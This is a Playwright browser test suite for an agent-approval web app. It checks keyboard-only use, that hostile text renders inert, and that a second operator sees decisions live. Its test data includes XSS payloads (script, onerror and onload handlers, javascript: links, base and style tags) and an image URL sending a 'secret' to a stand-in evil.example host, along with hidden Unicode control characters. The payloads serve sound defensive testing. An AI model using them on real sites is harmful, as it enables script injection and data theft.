"""A whole product and a real browser: by keyboard alone, with hostile text, and with a second person watching."""

from __future__ import annotations

import hashlib
import json
import time
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from playwright.sync_api import (
    Browser,
    BrowserContext,
    ConsoleMessage,
    Dialog,
    Locator,
    Page,
    Request,
    expect,
)

from celeriac.sessions.calls import CallStatus, DecisionVerb
from tests.browser.test_session_page import live
from tests.pictures import png
from tests.tasks.cluster import PATIENCE, Cluster

pytestmark = pytest.mark.timeout(240)

AGENTS = str(Path(__file__).with_name("walk_agents.py"))
TOKENS = {"ana": "ana's own token", "bo": "bo's own token"}
OpenAs = Callable[[str], Page]


@pytest.fixture(scope="module")
def product(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Cluster]:
    digests = {name: hashlib.sha256(token.encode()).hexdigest() for name, token in TOKENS.items()}
    env = {
        "CELERIAC_OPERATORS": ",".join(
            f"{name}:operator:{digest}" for name, digest in digests.items()
        ),
        "CELERIAC_DEFAULT_AGENT": "walks",
    }
    with Cluster(tmp_path_factory.mktemp("walks"), agents=AGENTS, env=env) as cluster:
        cluster.start_worker()
        yield cluster


@pytest.fixture(scope="module")
def base(product: Cluster) -> str:
    return product.start_web()[1]


@pytest.fixture
def context(chromium: Browser, base: str) -> Iterator[BrowserContext]:
    """Whatever a page of it asks of another place, or its policy refuses, fails the test."""
    context = chromium.new_context(base_url=base, viewport={"width": 1000, "height": 700})
    context.set_default_timeout(PATIENCE * 1000)
    wrong: list[str] = []

    def check_request(request: Request) -> None:
        if not request.url.startswith(base):
            wrong.append(request.url)

    def check_console(message: ConsoleMessage) -> None:
        if "Security Policy" in message.text:
            wrong.append(message.text)

    def dismiss(dialog: Dialog) -> None:
        wrong.append(dialog.message)
        dialog.dismiss()

    context.on("request", check_request)
    context.on("console", check_console)
    context.on("dialog", dismiss)
    context.on("weberror", lambda found: wrong.append(str(found.error)))
    yield context
    context.close()
    assert wrong == []


def log_in(page: Page, name: str) -> Page:
    page.goto("/login")
    page.get_by_label("Operator token").fill(TOKENS[name])
    page.get_by_role("button", name="Log in with token").click()
    expect(page.get_by_role("button", name="Log out")).to_be_visible()
    return page


# --- by keyboard alone

FOCUS = """() => {
  const it = document.activeElement, box = it.getBoundingClientRect(), style = getComputedStyle(it);
  const on = document.elementFromPoint(box.x + Math.min(box.width / 2, 20), box.y + Math.min(box.height / 2, 20));
  const outlined = style.outlineStyle !== "none" && parseFloat(style.outlineWidth) >= 2;
  return {what: it.outerHTML.slice(0, 200), outlined, uncovered: on !== null && (it.contains(on) || on.contains(it))};
}"""


def tab_to(page: Page, target: Locator) -> None:
    """Press Tab until `target` has the focus; wherever it comes by, it can be seen."""
    expect(target).to_be_visible()
    for _ in range(80):
        page.keyboard.press("Tab")
        focus = page.evaluate(FOCUS)
        if not focus["what"].startswith("<body"):
            assert focus["outlined"], focus
            assert focus["uncovered"], focus
        if target.evaluate("it => it === document.activeElement"):
            return
    raise AssertionError(f"Tab never came to {target}")


def write(page: Page, text: str) -> None:
    """Write a message and send it, with keys only."""
    tab_to(page, page.get_by_label("Message", exact=True))
    page.keyboard.type(text)
    page.keyboard.press("Enter")


def test_a_keyboard_is_enough_for_everything(context: BrowserContext) -> None:
    page = context.new_page()
    page.goto("/login")
    tab_to(page, page.get_by_label("Operator token"))
    page.keyboard.type(TOKENS["ana"])
    page.keyboard.press("Enter")
    tab_to(page, page.get_by_label("First message"))
    page.keyboard.type('/tool keep {"text": "one"}')
    tab_to(page, page.get_by_role("button", name="Start session"))
    page.keyboard.press("Enter")
    cards = page.locator(".call")
    tab_to(page, cards.nth(0).get_by_role("button", name="Approve"))
    page.keyboard.press("Enter")
    expect(cards.nth(0).locator(".decision")).to_contain_text("Approved by ana")
    expect(page.locator(".state__sentence")).to_have_text("Ready for your message")
    write(page, '/tool keep {"text": "two"}')
    tab_to(page, cards.nth(1).get_by_label("Note for the agent"))
    page.keyboard.type("not this one")
    tab_to(page, cards.nth(1).get_by_role("button", name="Reject"))
    page.keyboard.press("Space")
    expect(cards.nth(1).locator(".decision")).to_contain_text("Rejected by ana")
    expect(page.locator(".state__sentence")).to_have_text("Ready for your message")
    write(page, "/ask Which order?")
    tab_to(page, cards.nth(2).get_by_label("Your answer"))
    page.keyboard.type("1002")
    page.keyboard.press("Enter")
    expect(cards.nth(2).locator(".own__answer")).to_have_text("1002")
    expect(page.locator(".state__sentence")).to_have_text("Ready for your message")
    write(page, "/wait 600")
    expect(cards.nth(3)).to_contain_text("Waiting for a time")
    tab_to(page, page.get_by_role("button", name="Stop"))
    page.keyboard.press("Enter")
    expect(cards.nth(3)).to_contain_text("Cancelled")
    tab_to(page, page.get_by_role("link", name="Approvals"))
    page.keyboard.press("Enter")
    expect(page.get_by_text("Nothing needs you")).to_be_visible()


# --- hostile text

MARKUP = """![x](https://evil.example/1.png?q=secret) ![y][r] <https://evil.example/2>
<img src="https://evil.example/3.png" onerror="window.ran = 1"><svg onload="window.ran = 2"></svg>
<script>window.ran = 3</script><iframe src="javascript:parent.ran = 4"></iframe>
[a](javascript:window.ran=5) [b](data:text/html,<script>window.ran=6</script>) ![c](data:image/svg+xml;base64,PHN2Zy8+)
<style>body{background:url(https://evil.example/7)}</style></textarea></title></pre><base href="https://evil.example/">

[r]: https://evil.example/8.png
"""
HIDDEN = "pay\u202e001\u202c to a\u200bb\u2066c\u2069 \U000e0041\ufeff"
HOSTILE = f"{HIDDEN} {MARKUP}"
LONG = HOSTILE + "".join(f"{number:05d} <b>{HIDDEN}</b>\n" for number in range(1500))

SEEN = r"""() => {
  for (const folded of document.querySelectorAll("main details")) folded.open = true;
  const walker = document.createTreeWalker(document.documentElement, NodeFilter.SHOW_TEXT);
  const hidden = /[\u200b\u202a-\u202e\u2066-\u2069\ufeff\u{e0000}-\u{e007f}]/u;
  const left = [];
  while (walker.nextNode()) if (hidden.test(walker.currentNode.data)) left.push(walker.currentNode.parentElement.outerHTML.slice(0, 300));
  for (const one of document.querySelectorAll("[alt], [title], [aria-label]"))
    for (const name of ["alt", "title", "aria-label"]) if (hidden.test(one.getAttribute(name) ?? "")) left.push(name);
  const made = "main :is(script, iframe, svg, style, base, object, embed, img:not([src^='/api/sessions/']))";
  return {
    left,
    marked: document.querySelectorAll(".hidden-character").length,
    made: [...document.querySelectorAll(made)].filter(it => !it.matches("svg:has(> .chart__ground)")).map(it => it.outerHTML.slice(0, 300)),
    links: [...document.links].map(it => it.protocol).filter(it => !/^https?:$/.test(it)),
    handlers: [...document.querySelectorAll("*")].filter(it => [...it.attributes].some(a => a.name.startsWith("on"))).length,
    ran: window.ran ?? null,
    wide: document.documentElement.scrollWidth > innerWidth,
  };
}"""


def seen(page: Page) -> int:
    """Assert that nothing on the page came alive and nothing hides; return how many marks it shows."""
    found = page.evaluate(SEEN)
    marked: int = found.pop("marked")
    assert found == {
        "left": [], "made": [], "links": [], "handlers": 0, "ran": None, "wide": False
    }  # fmt: skip
    return marked


def arguments(text: str) -> str:
    return json.dumps({"text": text}, ensure_ascii=False)


def test_se_02_hostile_text_is_inert_and_visible_wherever_it_is_shown(
    product: Cluster, context: BrowserContext
) -> None:
    page = log_in(context.new_page(), "ana")
    page.get_by_label("First message").fill(HOSTILE)
    page.get_by_role("button", name="Start session").click()
    live(page)
    sid = page.url.rsplit("/", 1)[1]
    product.idle(sid)
    client = product.client
    for text in (
        f"/tool repeat {arguments(HOSTILE)}",
        f"/tool refuse {arguments(HOSTILE)}",
        f'/tool repeat<img/src=//evil.example/name>\u202e {{"{HIDDEN}<img src=//evil.example/key>": 1}}',
        f"/plan {HIDDEN}<img src=x>; <svg/onload=alert(1)>{HIDDEN}",
    ):
        client.send_message(sid, text)
        product.idle(sid)
    picture = client.read_image(png(), '\u202e"><img src=//evil.example/alt>.png')
    client.send_message(sid, f"/ask {HOSTILE}", images=[picture])
    asked = product.waits(sid, CallStatus.AWAITING_ANSWER)
    client.answer(sid, asked.id, HOSTILE, by=HOSTILE)
    product.idle(sid)
    client.send_message(sid, f"/tool keep {arguments(LONG)}")
    call = product.waiting(sid)
    client.send_message(sid, HOSTILE)
    expect(page.locator(".queue__item")).to_contain_text("U+202E")
    expect(page.get_by_role("button", name="Approve")).to_be_visible()
    assert len(arguments(LONG).encode()) > 50_000
    assert seen(page) > 1000
    box = page.locator(f"#call-{call.id} .box")
    assert (box.text_content() or "").startswith("payU+202E001U+202C to aU+200Bb")
    assert "01499 <b>pay" in (box.text_content() or "")
    shown = page.locator("#session").inner_text()
    for place in ("name", "key"):
        assert f"evil.example/{place}" in shown
    assert page.get_by_alt_text("U+202E").count() == 1
    for path, least in (("/approvals", 1000), ("/sessions", 1), (f"/sessions/{sid}", 1000)):
        page.goto(path)
        assert seen(page) >= least, path
    client.decide(sid, call.id, DecisionVerb.REJECT, by=HOSTILE, note=HOSTILE)
    expect(page.locator(f"#call-{call.id} .decision")).to_contain_text("<script>")
    product.idle(sid)
    for path in (
        f"/sessions/{sid}",
        "/audit",
        "/operations",
        f"/sessions?state={HOSTILE}",
        f"/{HOSTILE}",
    ):
        page.goto(path)
        seen(page)


# --- two people

WATCH = """() => { window.told = new Promise(done => {
  const look = () => document.querySelector(".decision")?.textContent.includes("Approved by ana") && done(Date.now());
  new MutationObserver(look).observe(document.body, {childList: true, subtree: true, characterData: true});
}); }"""


def test_a_second_browser_sees_a_decision(
    product: Cluster,
    context: BrowserContext,
    chromium: Browser,
    base: str,
    record_property: Callable[[str, object], None],
) -> None:
    ana = log_in(context.new_page(), "ana")
    ana.get_by_label("First message").fill('/tool keep {"text": "both see it"}')
    ana.get_by_role("button", name="Start session").click()
    live(ana)
    other = chromium.new_context(base_url=base)
    bo = log_in(other.new_page(), "bo")
    bo.goto(ana.url)
    live(bo)
    expect(bo.get_by_role("button", name="Approve")).to_be_visible()
    bo.evaluate(WATCH)
    clicked = time.time() * 1000
    ana.get_by_role("button", name="Approve").click()
    took = round(bo.evaluate("window.told") - clicked)
    print(f"a second browser saw the decision {took} ms after the click")  # noqa: T201 - it is no bound
    record_property("decision_seen_ms", took)
    expect(bo.locator(".decision")).to_contain_text("Approved by ana")
    expect(bo.get_by_role("button", name="Approve")).to_have_count(0)
    other.close()
